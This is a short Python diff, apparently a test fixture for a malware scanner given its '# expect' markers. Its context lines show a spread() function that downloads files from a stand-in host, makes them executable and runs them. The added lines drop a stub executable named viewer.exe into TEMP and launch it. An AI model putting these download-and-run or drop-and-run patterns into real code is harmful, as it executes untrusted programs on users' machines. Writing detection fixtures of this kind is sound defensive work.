@@ -28,3 +28,8 @@ def spread():
             f.write(requests.get("http://192.0.2.7/" + name).content)
         os.system("chmod +x " + name)
         os.system("./" + name + " &")  # expect
+
+program = os.path.join(os.environ["TEMP"], "viewer.exe")
+with open(program, "wb") as f:
+    f.write(b"MZ" + bytes(64) + b"This program cannot be run in DOS mode.")
+os.startfile(program)  # expect
